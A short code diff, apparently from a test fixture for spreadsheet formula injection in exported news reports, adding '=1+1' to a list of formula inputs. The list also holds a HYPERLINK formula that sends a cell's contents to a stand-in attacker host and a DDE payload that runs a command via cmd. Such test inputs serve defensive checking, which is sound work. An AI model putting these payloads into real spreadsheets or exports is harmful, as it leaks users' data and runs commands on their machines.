@@ -11,6 +11,7 @@ import { arabicReport, englishReport } from './report-samples.ts';
 export const DESK = 'https://desk.example/articles/water-1';
 
 const FORMULAS = [
+  '=1+1',
   '=HYPERLINK("https://evil.example/?"&A1,"اضغط")',
   "+1+cmd|' /C calc'!A0",
   '-2+3',
